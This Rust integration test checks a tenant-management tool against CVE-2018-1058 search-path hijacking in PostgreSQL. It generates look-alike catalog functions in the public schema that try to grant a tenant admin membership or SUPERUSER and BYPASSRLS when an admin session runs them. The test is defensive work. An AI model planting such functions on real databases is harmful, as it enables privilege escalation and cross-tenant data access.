//! A hostile starter tenant on a cluster where PUBLIC may still CREATE in schema `public`
//! (PostgreSQL's default before 15, kept through upgrades, RDS included): it plants
//! look-alike catalog functions there (CVE-2018-1058), each trying to make the tenant an
//! admin or a superuser the moment an admin session runs it, and recording that it ran.
//! Provisioning, `verify`, `db migrate`, offboarding run over it; none may run a planted
//! function, and `verify` reports the open schema.

use tenantctl::db::DbSecret;
use tenantctl::report::{self, Check, CheckStatus};
use tenantctl::tenant::Tier;
use tokio_postgres::Client;

use crate::support::postgres::{DbWorkDir, connect_secret, show};

const ATTACKER: &str = "hj-a";
const ATTACKER_ROLE: &str = "tenant_hj-a";

/// `public.<name>(<args>)` returning `returns`: records that it ran (and as whom), tries
/// to escalate the attacker, then answers like the catalog function so nothing looks off.
fn plant(name: &str, args: &str, returns: &str, answer: &str) -> String {
    format!(
        r#"CREATE FUNCTION public.{name}({args}) RETURNS {returns} LANGUAGE plpgsql AS $plant$
BEGIN
    INSERT INTO public.hijack_log (fn) VALUES ('{name}({args})');
    BEGIN
        EXECUTE 'GRANT tenantctl_admin TO "{ATTACKER_ROLE}"';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE 'ALTER ROLE "{ATTACKER_ROLE}" SUPERUSER BYPASSRLS';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN {answer};
END $plant$;
"#
    )
}

/// Everything the attacker plants: a signature that matches some call of tenantctl's
/// admin SQL better than the catalog's (or as well), for each function it calls.
fn plants() -> String {
    let mut sql = String::from(
        "CREATE TABLE public.hijack_log (fn text NOT NULL, run_by text NOT NULL DEFAULT current_user, at timestamptz NOT NULL DEFAULT clock_timestamp());
GRANT SELECT, INSERT ON public.hijack_log TO PUBLIC;
",
    );
    for (name, args, returns, answer) in [
        (
            "pg_has_role",
            "oid, regrole, text",
            "boolean",
            "pg_catalog.pg_has_role($1, $2::oid, $3)",
        ),
        (
            "pg_has_role",
            "name, text, text",
            "boolean",
            "pg_catalog.pg_has_role($1, $2::name, $3)",
        ),
        (
            "pg_has_role",
            "text, text, text",
            "boolean",
            "pg_catalog.pg_has_role($1::name, $2::name, $3)",
        ),
        (
            "format",
            "text, VARIADIC text[]",
            "text",
            "pg_catalog.format($1, VARIADIC $2)",
        ),
        ("format", "text, text", "text", "pg_catalog.format($1, $2)"),
        (
            "format",
            "text, regclass",
            "text",
            "pg_catalog.format($1, $2)",
        ),
        (
            "format",
            "text, text, regclass",
            "text",
            "pg_catalog.format($1, $2, $3)",
        ),
        (
            "format",
            "text, regclass, text",
            "text",
            "pg_catalog.format($1, $2, $3)",
        ),
        (
            "format",
            "text, text, text",
            "text",
            "pg_catalog.format($1, $2, $3)",
        ),
        ("to_regrole", "text", "regrole", "pg_catalog.to_regrole($1)"),
        (
            "to_regrole",
            "name",
            "regrole",
            "pg_catalog.to_regrole($1::text)",
        ),
        (
            "to_regnamespace",
            "text",
            "regnamespace",
            "pg_catalog.to_regnamespace($1)",
        ),
        (
            "current_setting",
            "text, boolean",
            "text",
            "pg_catalog.current_setting($1, $2)",
        ),
        (
            "current_setting",
            "text",
            "text",
            "pg_catalog.current_setting($1)",
        ),
        (
            "has_schema_privilege",
            "text, oid, text",
            "boolean",
            "pg_catalog.has_schema_privilege($1, $2, $3)",
        ),
        (
            "pg_get_userbyid",
            "oid",
            "name",
            "pg_catalog.pg_get_userbyid($1)",
        ),
        ("hashtext", "text", "integer", "pg_catalog.hashtext($1)"),
        ("quote_ident", "text", "text", "pg_catalog.quote_ident($1)"),
        (
            "current_database",
            "",
            "name",
            "pg_catalog.current_database()",
        ),
        (
            "set_config",
            "text, text, boolean",
            "text",
            "pg_catalog.set_config($1, $2, $3)",
        ),
        (
            "pg_get_expr",
            "pg_node_tree, oid",
            "text",
            "pg_catalog.pg_get_expr($1, $2)",
        ),
    ] {
        sql.push_str(&plant(name, args, returns, answer));
    }
    sql
}

/// What a pre-15 cluster allows: everyone, and explicitly the attacker, may CREATE in
/// `public` again (provisioning closes it; the test reopens it after every step).
async fn reopen_public(admin: &Client) {
    admin
        .batch_execute(&format!(
            "GRANT CREATE ON SCHEMA public TO PUBLIC, \"{ATTACKER_ROLE}\""
        ))
        .await
        .unwrap();
}

/// Rows of `public.hijack_log`: every planted function that ran in a committed
/// transaction.
async fn hijacks(admin: &Client) -> Vec<String> {
    admin
        .query(
            "SELECT pg_catalog.concat_ws(' as ', fn, run_by) FROM public.hijack_log ORDER BY at",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect()
}

/// What the attacker gained: admin membership, SUPERUSER, BYPASSRLS.
async fn escalation(admin: &Client) -> (bool, bool, bool) {
    let r = admin
        .query_one(
            "SELECT pg_catalog.pg_has_role(r.oid, 'tenantctl_admin'::pg_catalog.regrole::pg_catalog.oid, 'MEMBER'),
                    r.rolsuper, r.rolbypassrls
             FROM pg_catalog.pg_roles r WHERE r.rolname = $1",
            &[&ATTACKER_ROLE],
        )
        .await
        .unwrap();
    (r.get(0), r.get(1), r.get(2))
}

/// `count(*)` of pool.accounts in a transaction with tenant context `ctx`.
async fn count_as(c: &Client, ctx: &str, filter: &str) -> i64 {
    c.batch_execute("BEGIN").await.unwrap();
    c.execute(
        "SELECT pg_catalog.set_config('app.current_tenant', $1, true)",
        &[&ctx],
    )
    .await
    .unwrap();
    let n = c
        .query_one(
            &format!("SELECT pg_catalog.count(*) FROM pool.accounts {filter}"),
            &[],
        )
        .await
        .unwrap()
        .get(0);
    c.batch_execute("COMMIT").await.unwrap();
    n
}

async fn insert_as(c: &Client, tenant: &str, email: &str) {
    c.batch_execute("BEGIN").await.unwrap();
    c.execute(
        "SELECT pg_catalog.set_config('app.current_tenant', $1, true)",
        &[&tenant],
    )
    .await
    .unwrap();
    c.execute(
        "INSERT INTO pool.accounts (tenant_id, email, name) VALUES ($1, $2, 'n')",
        &[&tenant, &email],
    )
    .await
    .unwrap();
    c.batch_execute("COMMIT").await.unwrap();
}

fn check<'a>(checks: &'a [Check], name: &str) -> &'a Check {
    checks
        .iter()
        .find(|c| c.check == name)
        .unwrap_or_else(|| panic!("no check {name} in {checks:#?}"))
}

fn not_passing(checks: &[Check]) -> Vec<String> {
    checks
        .iter()
        .filter(|c| c.status != CheckStatus::Pass)
        .map(|c| format!("{} = {}", c.check, c.actual))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn planted_catalog_look_alikes_never_run_in_admin_sessions() {
    let w = DbWorkDir::current("hijack").await;
    let admin = w.admin().await;
    let db = w.database();
    // The pre-15 default, before tenantctl ever ran here.
    admin
        .batch_execute("GRANT CREATE ON SCHEMA public TO PUBLIC")
        .await
        .unwrap();
    let a: DbSecret = w.provision(ATTACKER, Tier::Starter).await;
    let b = w.provision("hj-b", Tier::Starter).await;
    let _c = w.provision("hj-c", Tier::Starter).await;
    let g = w.provision("hj-g", Tier::Growth).await;
    // Provisioning closed `public`.
    let open: bool = admin
        .query_one(
            "SELECT pg_catalog.has_schema_privilege('public', 'public', 'CREATE')",
            &[],
        )
        .await
        .unwrap()
        .get(0);
    assert!(
        !open,
        "provisioning must revoke CREATE on public from PUBLIC"
    );

    reopen_public(&admin).await;
    let ca = connect_secret(&a).await;
    let cb = connect_secret(&b).await;
    ca.batch_execute(&plants())
        .await
        .unwrap_or_else(|e| panic!("the attacker plants its functions: {e}"));
    insert_as(&cb, "hj-b", "b1@x").await;
    insert_as(&cb, "hj-b", "b2@x").await;
    insert_as(&ca, ATTACKER, "a1@x").await;

    // The trap is armed: an admin session with the default search_path running what
    // `verify` used to run (`pg_has_role(oid, to_regrole($2), 'MEMBER')`) runs the
    // attacker's function with the admin's rights. Rolled back, so nothing stays.
    admin.batch_execute("BEGIN").await.unwrap();
    admin
        .query(
            "SELECT CASE WHEN to_regrole($2) IS NULL THEN false ELSE pg_has_role(r.oid, to_regrole($2), 'MEMBER') END
             FROM pg_roles r WHERE r.rolname = $1",
            &[&"tenant_hj-b", &"tenantctl_admin"],
        )
        .await
        .unwrap();
    let armed = hijacks(&admin).await;
    let escalated = escalation(&admin).await;
    admin.batch_execute("ROLLBACK").await.unwrap();
    assert!(
        armed
            .iter()
            .any(|h| h.starts_with("pg_has_role(oid, regrole, text)")),
        "the planted function must fire in an unpinned admin session: {armed:?}"
    );
    assert!(escalated.0, "and grant the attacker tenantctl_admin");
    assert!(hijacks(&admin).await.is_empty());
    assert_eq!(escalation(&admin).await, (false, false, false));

    // Every step of tenantctl over the planted functions, `public` reopened after each.
    // Provisioning again (the pool's post-migration step, grants, membership) and a new
    // tenant from scratch.
    let spec_a = w.declare(ATTACKER, Tier::Starter);
    db.provision(&spec_a, &a).await.unwrap();
    reopen_public(&admin).await;
    let _d = w.provision("hj-d", Tier::Starter).await;
    reopen_public(&admin).await;

    // verify: every check passes but the open `public` (and, for the attacker, that it
    // owns a table there), which fail: exit 3.
    let spec_b = w.declare("hj-b", Tier::Starter);
    let spec_g = w.declare("hj-g", Tier::Growth);
    for (spec, secret, failing) in [
        (
            &spec_a,
            &a,
            &["db.role.owns_nothing", "db.public_schema"][..],
        ),
        (&spec_b, &b, &["db.public_schema"][..]),
        (&spec_g, &g, &["db.public_schema"][..]),
    ] {
        let checks = db.verify(spec, secret).await;
        assert_eq!(
            not_passing(&checks)
                .iter()
                .map(|c| c.split(" = ").next().unwrap())
                .collect::<Vec<_>>(),
            failing,
            "{}: {:#?}",
            spec.id,
            not_passing(&checks)
        );
        let public = check(&checks, "db.public_schema");
        assert_eq!(public.status, CheckStatus::Fail);
        assert!(
            public.actual.contains("PUBLIC has CREATE")
                && public
                    .actual
                    .contains(&format!("{ATTACKER_ROLE} has CREATE")),
            "{}",
            public.actual
        );
        assert_eq!(report::exit_code(&checks), 3);
    }

    // db migrate: a new migration on every target (pool and bridge post-migration steps).
    w.write_migration(
        "0004_notes.sql",
        "CREATE TABLE notes (id bigint GENERATED ALWAYS AS IDENTITY, tenant_id text NOT NULL, body text, PRIMARY KEY (tenant_id, id));\n",
    );
    let args = ["db", "migrate"];
    let out = w.tenantctl(&args);
    assert_eq!(out.status.code(), Some(0), "{}", show(&args, &out));
    reopen_public(&admin).await;
    let args = ["db", "status"];
    let out = w.tenantctl(&args);
    assert_eq!(out.status.code(), Some(0), "{}", show(&args, &out));

    // Offboarding a starter (the pool's row deletion, the role drop).
    let spec_c = w.declare("hj-c", Tier::Starter);
    db.deprovision(&spec_c).await.unwrap();
    reopen_public(&admin).await;

    // Nothing planted ever ran, and the attacker gained nothing.
    assert_eq!(hijacks(&admin).await, Vec::<String>::new());
    assert_eq!(escalation(&admin).await, (false, false, false));
    // As itself: its one row; B's rows invisible, whatever context it claims.
    assert_eq!(count_as(&ca, ATTACKER, "").await, 1);
    assert_eq!(count_as(&ca, ATTACKER, "WHERE tenant_id = 'hj-b'").await, 0);
    assert_eq!(count_as(&ca, "hj-b", "").await, 0);
    assert_eq!(count_as(&cb, "hj-b", "").await, 2);

    // Once the attacker's objects are gone, the next provisioning closes `public` again
    // (and grants back what dropping them revoked), and verify passes.
    admin
        .batch_execute(&format!("DROP OWNED BY \"{ATTACKER_ROLE}\""))
        .await
        .unwrap();
    db.provision(&spec_a, &a).await.unwrap();
    let checks = db.verify(&spec_a, &a).await;
    assert!(
        not_passing(&checks).is_empty(),
        "{:#?}",
        not_passing(&checks)
    );
    assert_eq!(check(&checks, "db.public_schema").actual, "ok");
    assert_eq!(report::exit_code(&checks), 0);
    assert_eq!(escalation(&admin).await, (false, false, false));
}
